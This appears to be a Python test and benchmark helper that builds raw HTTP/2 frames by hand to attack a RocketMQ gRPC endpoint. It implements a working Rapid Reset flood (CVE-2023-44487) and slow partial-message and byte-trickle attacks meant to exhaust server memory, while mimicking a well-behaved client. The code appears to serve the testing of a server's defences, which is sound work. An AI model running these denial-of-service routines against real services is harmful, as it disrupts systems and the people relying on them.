"""A bare HTTP/2 peer for attacks on the gRPC endpoint (tests and bench/attack_memory.py): frames built by hand over
a blocking socket (RFC 9113 layouts, an HPACK block of static-table indexes and literals without Huffman coding).
A reader thread answers the server's SETTINGS and PINGs as any HTTP/2 library would, so the server cannot tell it
from a well-behaved client by those, and notes a GOAWAY or the end of the connection."""

from __future__ import annotations

import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
METHOD_PREFIX = "/apache.rocketmq.v2.MessagingService/"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _string(text: bytes) -> bytes:
    assert len(text) < 127
    return bytes((len(text),)) + text


def request_headers(method: str, authority: str = "localhost") -> bytes:
    """An HPACK block for a gRPC call of MessagingService's ``method`` (static indexes: 3 POST, 6 http, 4 :path,
    1 :authority, 31 content-type)."""
    return (b"\x83\x86"
            + b"\x04" + _string((METHOD_PREFIX + method).encode())
            + b"\x01" + _string(authority.encode())
            + b"\x0f\x10" + _string(b"application/grpc")
            + b"\x00" + _string(b"te") + _string(b"trailers"))


class RawH2:
    """One HTTP/2 connection to ``addr``; ``goaway`` / ``eof`` say whether and when the server ended it."""

    def __init__(self, addr: str) -> None:
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.goaway: float | None = None  # monotonic time of the server's GOAWAY
        self.eof: float | None = None  # monotonic time the connection ended (EOF, reset)
        self.send_window = 65_535  # the connection's flow-control window for our DATA
        self.initial_stream_window = 65_535  # the server's SETTINGS_INITIAL_WINDOW_SIZE
        self.stream_windows: dict[int, int] = {}
        self._lock = threading.Lock()
        self._next_stream = 1
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    @property
    def ended(self) -> bool:
        return self.goaway is not None or self.eof is not None

    def new_stream(self) -> int:
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        return stream

    def send(self, data: bytes) -> bool:
        """Send raw bytes; False once the connection is gone."""
        try:
            with self._lock:
                self.sock.sendall(data)
            return True
        except OSError:
            self.eof = self.eof or time.monotonic()
            return False

    def rapid_resets(self, count: int, method: str = "QueryRoute") -> bool:
        """``count`` streams, each opened and reset at once (CVE-2023-44487), written in batches of 100."""
        block = request_headers(method)
        batch = []
        for _ in range(count):
            stream = self.new_stream()
            batch.append(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            if len(batch) == 100:
                if not self.send(b"".join(batch)):
                    return False
                batch = []
        return self.send(b"".join(batch)) if batch else True

    def partial_message(self, size: int, sent: int, method: str = "SendMessage") -> int:
        """Open a stream announcing a ``size``-byte gRPC message and send ``sent`` bytes of it (within the windows
        the server grants); returns the stream id."""
        stream = self.new_stream()
        body = struct.pack(">BI", 0, size) + b"\0" * max(0, sent - 5)
        with self._lock:
            self.stream_windows[stream] = self.initial_stream_window
        self.send(frame(HEADERS, END_HEADERS, stream, request_headers(method)))
        pos = 0
        deadline = time.monotonic() + 10
        while pos < len(body) and not self.ended and time.monotonic() < deadline:
            n = min(len(body) - pos, 16_384, self.send_window, self.stream_windows[stream])
            if n <= 0:
                time.sleep(0.01)
                continue
            with self._lock:
                self.send_window -= n
                self.stream_windows[stream] -= n
            if not self.send(frame(DATA, 0, stream, body[pos:pos + n])):
                break
            pos += n
        return stream

    def trickle(self, stream: int) -> bool:
        """One more byte of the stream's message."""
        return self.send(frame(DATA, 0, stream, b"\0"))

    def _read(self) -> None:
        buf = b""
        try:
            self.sock.settimeout(None)
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload, buf = buf[9:9 + length], buf[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        for i in range(0, len(payload) - 5, 6):
                            if int.from_bytes(payload[i:i + 2], "big") == 0x4:  # SETTINGS_INITIAL_WINDOW_SIZE
                                self.initial_stream_window = int.from_bytes(payload[i + 2:i + 6], "big")
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.goaway = self.goaway or time.monotonic()
                    elif kind == WINDOW_UPDATE:
                        grant = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                        with self._lock:
                            if stream == 0:
                                self.send_window += grant
                            elif stream in self.stream_windows:
                                self.stream_windows[stream] += grant
        except OSError:
            pass
        self.eof = self.eof or time.monotonic()

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass
        self._reader.join(timeout=5)
